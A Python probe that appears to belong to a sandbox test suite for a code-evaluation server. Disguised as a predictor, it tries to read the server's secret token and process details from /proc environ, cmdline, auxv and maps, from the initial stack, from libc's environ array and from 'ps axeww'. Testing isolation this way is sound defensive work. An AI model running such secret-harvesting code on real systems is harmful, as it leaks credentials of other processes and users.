"""Look for the server's secret token, its arguments and its paths in environments, command lines and maps, its own included.

Against it: an own uid, no `/proc`, an undumpable child, a clean exec of the zygote (I-10, I-12, I-30). A secret in an environment that
the evaluated code could read is how keys left several public judges.
"""

import ctypes
import os
import sys

from toolbox import TARGETS, attempt, checked, libc, number, syscall

TOKEN = TARGETS["token_name"]
AT_RANDOM, AT_EXECFN, AT_SECURE = 25, 31, 23
PR_GET_AUXV = 0x41555856
CAP = 1 << 20
SHOWN = 400
WHO = {"server": TARGETS["server_pid"], "zygote": TARGETS["zygote_pid"], "init": 1, "parent": os.getppid(), "self": "self"}
WHAT = ("environ", "cmdline", "auxv", "maps")


def by_python(path):
    with open(path, "rb", buffering=0) as file:
        parts = []
        while part := file.read(65_536):
            parts.append(part)
    return b"".join(parts)


def drained(fd, read):
    """All that a descriptor gives, at most 1 MiB."""
    block, parts = ctypes.create_string_buffer(65_536), []
    try:
        while len(parts) < CAP // 4_096 and (got := read(fd, block, len(block))) > 0:
            parts.append(block.raw[:got])
    finally:
        libc.close(fd)
    return b"".join(parts)


def by_libc(path):
    return drained(checked(libc.open(os.fsencode(path), os.O_RDONLY)), lambda fd, block, size: checked(libc.read(fd, block, size)))


def by_stream(path):
    libc.fopen.restype = ctypes.c_void_p
    file = ctypes.c_void_p(checked(libc.fopen(os.fsencode(path), b"rb")))
    block = ctypes.create_string_buffer(CAP)
    got = libc.fread(block, 1, CAP, file)
    libc.fclose(file)
    return block.raw[:got]


def by_number(path):
    fd = syscall(number(257, 56), -100, os.fsencode(path), os.O_RDONLY, 0)
    return drained(fd, lambda fd, block, size: syscall(number(0, 63), fd, block, size))


WAYS = {"python": by_python, "libc": by_libc, "stream": by_stream, "number": by_number}


def kept(what, data):
    """The part of a find that may be a secret: outcomes are short, and what is cut out of the log is not found."""
    if not data:
        return None
    if what == "environ":
        named = [entry for entry in data.split(b"\0") if entry.startswith(TOKEN.encode())]
        return b" ".join(named) or data[:SHOWN]
    if what == "maps":
        paths = {line.split(maxsplit=5)[5] for line in data.splitlines() if len(line.split(maxsplit=5)) == 6}
        private = sorted(path for path in paths if b".so" not in path and not path.startswith((b"[", b"/usr", b"/lib", b"/dev")))
        return b" ".join(private)[:SHOWN]
    return data[:SHOWN].hex() if what == "auxv" else data[:SHOWN].replace(b"\0", b" ")


def look(what, who, way):
    if not who:
        raise ProcessLookupError("there is no such process")
    return kept(what, WAYS[way](f"/proc/{who}/{what}"))


def by_task():
    server = TARGETS["server_pid"]
    return kept("environ", by_libc(f"/proc/{server}/task/{server}/environ"))


def by_root():
    return kept("environ", by_libc(f"/proc/self/root/proc/{TARGETS['server_pid']}/environ"))


def everyone():
    """Every process that `/proc` lists; without a list, every number."""
    try:
        pids = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    except OSError:
        pids = range(1, 1_000)
    found, refused = [], None
    for pid in pids:
        for what in ("environ", "cmdline"):
            try:
                found.append(kept(what, by_libc(f"/proc/{pid}/{what}"))[:120])
            except (OSError, TypeError) as error:
                refused = error
    if not found and refused:
        raise refused
    return b" ".join(sorted(set(found), key=lambda text: TOKEN.encode() not in text))


def own_dict():
    return os.environ.get(TOKEN) or (os.environb.get(TOKEN.encode()) if hasattr(os, "environb") else None)


def own_getenv():
    libc.getenv.restype = ctypes.c_char_p
    return libc.getenv(TOKEN.encode())


def own_walk():
    """The strings that the C library's `environ` points to now."""
    block, found = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ"), []
    for i in range(1_000):
        if not block or block[i] is None:
            break
        found.append(block[i])
    return kept("environ", b"\0".join(found))


def own_stack():
    """What the kernel put on the stack when the interpreter was started: arguments and environment stay there, whatever was cleared."""
    libc.getauxval.restype = ctypes.c_ulong
    low, high = libc.getauxval(AT_RANDOM), libc.getauxval(AT_EXECFN)
    if not 0 < high - low < CAP:
        return None
    strings = ctypes.string_at(low, high - low)
    named = [entry for entry in strings.split(b"\0") if entry.startswith(TOKEN.encode())]
    return b" ".join(named) or strings[-SHOWN:].replace(b"\0", b" ")


def own_auxv():
    block = ctypes.create_string_buffer(1_024)
    got = checked(libc.prctl(PR_GET_AUXV, block, ctypes.c_ulong(1_024), 0, 0))
    return block.raw[: min(got, SHOWN)].hex()


def own_arguments():
    return " ".join((*sys.orig_argv, *sys.argv))[:SHOWN]


def by_ps():
    import subprocess

    return subprocess.run(["ps", "axeww"], capture_output=True, timeout=1).stdout[:SHOWN]


class Predictor:
    def predict(self, view):
        if view.anchor == 0:
            for what in WHAT:
                for name, who in WHO.items():
                    for way in WAYS:
                        if way != "stream" or name in ("server", "self"):
                            attempt(f"{what}_{name}_{way}", look, what, who, way)
            for act in (by_task, by_root, everyone, own_dict, own_getenv, own_walk, own_stack, own_auxv, own_arguments, by_ps):
                attempt(act.__name__, act)
        return 0.5
